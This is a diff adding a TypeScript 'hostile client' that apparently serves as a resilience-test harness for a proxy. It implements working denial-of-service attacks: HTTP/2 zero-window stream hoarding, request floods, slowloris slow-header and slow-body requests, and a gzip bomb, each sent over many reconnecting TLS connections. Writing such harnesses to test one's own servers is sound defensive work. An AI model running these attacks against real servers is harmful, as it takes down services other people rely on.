@@ -1,0 +1,109 @@
+/**
+ * One hostile client, in a container of its own: runs the attack that ATTACK names on the proxy (HOST) until it is stopped, and prints what
+ * its requests got when it is. Without dependencies. A connection or stream that ends is opened again.
+ */
+import { type ClientHttp2Session, connect as connectH2 } from "node:http2";
+import { setTimeout as pause } from "node:timers/promises";
+import { connect, type TLSSocket } from "node:tls";
+import { gzipSync } from "node:zlib";
+
+const { ATTACK = "", HOST = "", TARGET = "/", CONNECTIONS = "1", STREAMS = "1", SIZE = "0" } = process.env;
+const [connections, streams, size] = [CONNECTIONS, STREAMS, SIZE].map(Number) as [number, number, number];
+const [OPEN_MS, REOPEN_MS] = [4, 100];
+/** Well below the proxy's timeouts, which begin anew with each byte. */
+const BYTE_MS = 3_000;
+
+const results: Record<string, number> = {};
+const count = (result: string | number) => {
+  results[result] = (results[result] ?? 0) + 1;
+};
+process.on("SIGTERM", () => {
+  console.log(JSON.stringify(results));
+  process.exit(0);
+});
+
+/** Opens a TLS connection; resolves with undefined if it fails. */
+function open(protocol: string): Promise<TLSSocket | undefined> {
+  return new Promise((resolve) => {
+    const options = { host: HOST, port: 8443, servername: HOST, rejectUnauthorized: false, ALPNProtocols: [protocol] };
+    const socket = connect(options, () => resolve(socket));
+    socket.on("error", () => undefined).on("close", () => resolve(undefined));
+  });
+}
+
+/** One request over HTTP/2 after another; resolves when the session has closed. */
+async function request(session: ClientHttp2Session, waitMs: number): Promise<void> {
+  while (!session.closed && !session.destroyed) {
+    await new Promise<void>((resolve) => {
+      const headers = { ":path": TARGET, ":authority": HOST, accept: "text/html", "accept-encoding": "gzip" };
+      const stream = session.request(headers);
+      stream.once("response", ({ ":status": status = 0 }) => count(status));
+      stream.on("error", () => undefined).on("close", resolve);
+      if (session.localSettings.initialWindowSize) stream.resume();
+    });
+    await pause(waitMs);
+  }
+}
+
+/** Many requests over HTTP/2 on one connection; with a window of zero, nothing of the responses can be sent. */
+async function multiplexed(initialWindowSize: number, waitMs: number): Promise<void> {
+  const socket = await open("h2");
+  if (!socket) return count("no connection");
+  const session = connectH2(`https://${HOST}:8443`, {
+    createConnection: () => socket,
+    settings: { initialWindowSize },
+  });
+  const closed = new Promise((resolve) => session.on("error", () => undefined).once("close", resolve));
+  // Nginx knows how little may be sent once it has the client's settings.
+  await Promise.race([closed, new Promise((resolve) => session.once("localSettings", resolve))]);
+  await Promise.all([closed, ...Array.from({ length: streams }, () => request(session, waitMs))]);
+}
+
+/** Sends the head of a request and this much of its body, then a byte now and then. */
+async function slowly(head: string, body: number): Promise<void> {
+  const socket = await open("http/1.1");
+  if (!socket) return count("no connection");
+  socket.once("data", (answer) => count(answer.toString("latin1").slice(9, 12)));
+  socket.write(head);
+  socket.write(Buffer.alloc(body, "x"));
+  const more = setInterval(() => socket.write("x"), BYTE_MS);
+  await new Promise((resolve) => socket.on("close", resolve));
+  clearInterval(more);
+  // It is to hold what it has, not to fill the line.
+  await pause(5_000);
+}
+
+/** 92 KB that decompress to 90 MB of blank lines. */
+const bomb = () => gzipSync(Buffer.concat([Buffer.from("{}\n"), Buffer.alloc(90 << 20, "\n")]));
+let packed: Buffer;
+async function post(): Promise<void> {
+  packed ??= bomb();
+  const socket = await open("http/1.1");
+  if (!socket) return count("no connection");
+  const headers = `content-type: text/plain\r\ncontent-encoding: gzip\r\ncontent-length: ${packed.length}`;
+  socket.once("data", (answer) => count(answer.toString("latin1").slice(9, 12)));
+  socket.write(`POST ${TARGET} HTTP/1.1\r\nhost: ${HOST}\r\nconnection: close\r\n${headers}\r\n\r\n`);
+  socket.write(packed);
+  await new Promise((resolve) => socket.on("close", resolve));
+}
+
+const attacks: Record<string, () => Promise<void>> = {
+  unread: () => multiplexed(0, 1_000),
+  flood: () => multiplexed(1 << 20, 0),
+  "slow-body": () =>
+    slowly(`POST ${TARGET} HTTP/1.1\r\nhost: ${HOST}\r\ncontent-length: ${size + 1_000}\r\n\r\n`, size),
+  "slow-header": () => slowly(`GET ${TARGET} HTTP/1.1\r\nhost: ${HOST}\r\nx-slow: `, 0),
+  bombs: post,
+};
+const attack = attacks[ATTACK];
+if (!attack) throw new Error(`ATTACK '${ATTACK}' is unknown: use one of ${Object.keys(attacks)}`);
+/** Not all in one second: who can open thousands of TLS connections at once needs no other attack. */
+for (let n = 0; n < connections; n++) {
+  void (async () => {
+    await pause(n * OPEN_MS);
+    for (;;) {
+      await attack();
+      await pause(REOPEN_MS);
+    }
+  })();
+}
